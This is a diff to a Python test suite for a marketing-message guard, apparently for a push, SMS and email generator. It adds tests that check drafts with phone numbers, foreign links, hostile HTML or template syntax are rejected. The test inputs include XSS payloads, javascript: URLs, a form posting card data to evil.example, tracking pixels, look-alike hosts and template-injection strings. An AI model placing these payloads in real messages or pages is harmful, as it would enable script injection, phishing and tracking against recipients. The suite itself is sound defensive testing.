@@ -14,7 +14,7 @@ from pushgen.generate.guards import (
 )
 from pushgen.messages import CampaignSettings, ItemFacts, Message, MessageContext, Recipient
 from pushgen.store import now_iso, open_store
-from _signing_helpers import unsub_for
+from _signing_helpers import OWN_SENDER, unsub_for
 
 STOP = "Reply STOP to opt out"
 CATALOG = {
@@ -37,7 +37,7 @@ def make_ctx(*, currency="USD", locale="en-US", channel="sms", **settings) -> Me
                   url="https://shop.example/p/SKU-2"),
     ]
     settings.setdefault("banned_phrases", ["guaranteed", "act now"])
-    cs = CampaignSettings(name="spring", channel=channel, **settings)
+    cs = CampaignSettings(name="spring", channel=channel, **{**OWN_SENDER, **settings})
     return MessageContext(Recipient(1, "u1", "Alice", locale), items, cs,
                           unsubscribe_url=unsub_for(cs, 1, "u1"))
 
@@ -194,6 +194,8 @@ def test_email_unsubscribe_link_is_allowed_and_required():
     msg.fields["text"] = msg.fields["text"].replace(unsub, other)
     checks = {c.name: c for c in GUARD.check(msg, ctx)}
     assert not checks["email.unsubscribe"].ok and not checks["guard.links"].ok
+    assert "someone else's unsubscribe link" in checks["guard.links"].message
+    assert other[-64:] not in checks["guard.links"].message   # only a prefix of the MAC
 
 
 # --- policies --------------------------------------------------------------------------------------
@@ -217,7 +219,7 @@ def test_personal_data():
     assert not check.ok and "alice@example.com" in check.message
     kw = {"forbidden_values": ["+1 (555) 123-4567"]}
     assert not sms("Call us on 555 123 4567", **kw)["guard.personal_data"].ok
-    assert sms("Questions? news@shop.example")["guard.personal_data"].ok  # the sender
+    assert sms("Questions? news@trail.example")["guard.personal_data"].ok  # the sender
     assert sms("Trail Runner X $48.99", **kw)["guard.personal_data"].ok
 
 
@@ -300,3 +302,153 @@ def test_mentions_item_push_deep_link_counts():
     msg = Message("push", {"title": "For you", "body": "New picks inside",
                            "deep_link": "shop://item/SKU-2"})
     assert {c.name: c for c in GUARD.check(msg, ctx)}["guard.mentions_item"].ok
+
+
+# --- every draft is hostile (issue 9, finding 2) ---------------------------------------------
+
+ADDR = "9 Harbour Road, Portsmouth, PO1 2AB, UK"
+
+
+@pytest.mark.parametrize("text", [
+    "Call +1 (415) 555-0199 or WhatsApp 020 7946 0958",
+    "Questions? Ring 13800138000",
+    "Hotline 400-820-8820",
+    "Call 01 23 45 67 89",
+    "Text +44 20 7946 0958 now",
+])
+def test_any_phone_number_fails(text):
+    check = sms(f"Trail Runner X $48.99 https://shop.example/p/SKU-1 {text}")[
+        "guard.personal_data"]
+    assert not check.ok and "phone number" in check.message
+
+
+@pytest.mark.parametrize("text", [
+    "Offer ends 2026-12-01", "Sizes 36 37 38 39 40", "Since 1998-2026", "Save 30% on 2 pairs",
+    "Postcode 12345", "Open 09:00-18:00", "Trail Runner X $1,299.00",
+])
+def test_dates_sizes_and_prices_are_not_phone_numbers(text):
+    assert sms(f"Trail Runner X {text}")["guard.personal_data"].ok
+
+
+def test_the_shops_own_contact_is_allowed_and_nothing_else():
+    ctx = make_ctx(contact_phone="+44 20 7946 0000", contact_email="help@trail.example")
+    text = "Trail Runner X. Questions? 020 7946 0000 or help@trail.example"
+    assert sms(text, ctx)["guard.personal_data"].ok
+    bad = sms("Trail Runner X. Questions? 020 7946 0958 or deals@evil.example", ctx)
+    check = bad["guard.personal_data"]
+    assert not check.ok and "020 7946 0958" in check.message
+    assert "deals@evil.example" in check.message
+
+
+@pytest.mark.parametrize("text", [
+    "More at evil-shop.example/deal",
+    "Deals at evil-shop.shop",
+    "Tap //evil.example/x",
+    "Tap javascript:alert(document.cookie)",
+    "Tap data:text/html,<script>alert(1)</script>",
+    "Tap https://shop.example@evil.example/p",
+    "Tap https://shоp.example/p/SKU-1",               # Cyrillic о: a look-alike host
+    "Tap https://xn--shp-ted.example/p/SKU-1",
+    "Tap mailto:deals@evil.example",
+    "Tap tel:+14155550199",
+    "Tap other://item/SKU-1",
+])
+def test_every_link_form_but_the_allowed_hosts_fails(text):
+    check = sms(f"Trail Runner X {text}")["guard.links"]
+    assert not check.ok, text
+
+
+def test_allowed_hosts_pass_in_every_spelling():
+    text = ("Trail Runner X https://shop.example/p/SKU-1 https://SHOP.example/sale "
+            "http://www.shop.example/new shop.example/p/SKU-2 www.shop.example")
+    assert sms(text)["guard.links"].ok
+
+
+def test_a_domain_the_recommended_item_itself_states_is_not_a_foreign_link():
+    ctx = make_ctx()
+    ctx.items[0].title = "Trail Runner X by runfast.io"
+    assert sms("Trail Runner X by runfast.io https://shop.example/p/SKU-1", ctx)[
+        "guard.links"].ok
+    assert not sms("Trail Runner X, more at runfast.io/deal", ctx)["guard.links"].ok
+
+
+def _email(html: str, ctx=None):
+    ctx = ctx or make_ctx(channel="email")
+    unsub = ctx.unsubscribe_url
+    body = (f'<html><body><p>Trail Runner X <b>$48.99</b></p>{html}'
+            f'<p><a href="{unsub}">Unsubscribe</a> {ADDR}</p></body></html>')
+    msg = Message("email", {
+        "subject": "Alice, picked for you", "preheader": "Two picks chosen for you, starting "
+        "with Trail Runner X.", "html": body,
+        "text": f"Trail Runner X $48.99 https://shop.example/p/SKU-1\n{unsub}\n{ADDR}"})
+    return {c.name: c for c in GUARD.check(msg, ctx)}
+
+
+def test_layout_email_html_with_catalog_images_passes():
+    ctx = make_ctx(channel="email")
+    ctx.items[0].image_url = "https://cdn.example/img/SKU-1 big.jpg"
+    html = ('<table role="presentation" width="100%" cellpadding="0"><tr><td align="center" '
+            'style="padding:8px;color:#222"><a href="https://shop.example/p/SKU-1">'
+            '<img src="https://cdn.example/img/SKU-1%20big.jpg" alt="Trail Runner X" width="160">'
+            '</a><img src="https://shop.example/logo.png" alt="logo"></td></tr></table>')
+    checks = _email(html, ctx)
+    assert all(c.ok for c in checks.values()), [c for c in checks.values() if not c.ok]
+
+
+@pytest.mark.parametrize("html, expect", [
+    ("<script>alert(1)</script>", "<script>"),
+    ('<form action="//evil.example/"><input name="card"></form>', "<form>"),
+    ('<img src="//evil.example/pixel.gif">', "pixel.gif"),
+    ('<img src="https://evil.example/pixel.gif" width="1" height="1">', "pixel.gif"),
+    ('<a href="javascript:alert(1)">win</a>', "javascript"),
+    ('<a href="jav&#x09;ascript:alert(1)">win</a>', "javascript"),
+    ('<a href="//evil.example/">x</a>', "evil.example"),
+    ('<p onclick="steal()">x</p>', "event attribute onclick"),
+    ('<img src="https://shop.example/p.png" onerror="steal()">', "onerror"),
+    ("<iframe src='https://evil.example'></iframe>", "<iframe>"),
+    ("<object data='x.swf'></object><embed src='x'>", "<object>"),
+    ("<style>body{background:url(https://evil.example/p.gif)}</style>", "<style>"),
+    ('<td style="background-image:url(https://evil.example/p.gif)">x</td>', "p.gif"),
+    ('<div style="width:expression(alert(1))">x</div>', "style"),
+    ('<meta http-equiv="refresh" content="0;url=https://evil.example">', "refresh"),
+    ("<!--[if mso]><v:image src='https://evil.example/p.gif'/><![endif]-->", "comment"),
+    ('<svg><a xlink:href="https://evil.example">x</a></svg>', "<svg>"),
+    ('<base href="https://evil.example/">', "<base>"),
+    ('<a href="sale.html">relative</a>', "relative"),
+])
+def test_hostile_email_html_fails(html, expect):
+    checks = _email(html)
+    failed = {n: c for n, c in checks.items() if not c.ok}
+    assert {"guard.html", "guard.links"} & set(failed), html
+    assert expect in " ".join(c.message for c in failed.values()), (html, failed)
+
+
+def test_email_html_problems_are_found_by_a_parser_not_a_regex():
+    from pushgen.generate.guards import inspect_email_html
+
+    read = inspect_email_html('<img/src="https://evil.example/x"/onerror=alert(1)>'
+                              '<scr<script>ipt>alert(1)</script>')
+    assert read.images == [("<img src>", "https://evil.example/x")]
+    assert "event attribute onerror on <img>" in read.problems
+    assert any("script" in p for p in read.problems)
+
+
+# --- template syntax from data (finding 11) ---------------------------------------------------
+
+
+@pytest.mark.parametrize("text", ["{{ 7*7 }}", "{% for x in y %}", "*|FNAME|*", "%%First%%",
+                                  "${7*7}", "<%= 7*7 %>", "{# note #}"])
+def test_template_syntax_in_copy_fails(text):
+    check = sms(f"Trail Runner X {text} https://shop.example/p/SKU-1")["guard.template_syntax"]
+    assert not check.ok and "template syntax" in check.message
+
+
+def test_neutralised_template_syntax_passes_and_reads_the_same():
+    from pushgen.generate.guards import find_template_syntax, neutralize_template_syntax
+
+    for raw in ("{{ 7*7 }}", "{{{x}}}", "{%- for %}", "*|X|*", "%%%", "${a}", "<%= %>"):
+        safe = neutralize_template_syntax(raw)
+        assert find_template_syntax(safe) == [], (raw, safe)
+        assert safe.replace(" ", "") == raw.replace(" ", "")
+        assert neutralize_template_syntax(safe) == safe
+    assert sms("Trail Runner X { { 7*7 } }")["guard.template_syntax"].ok
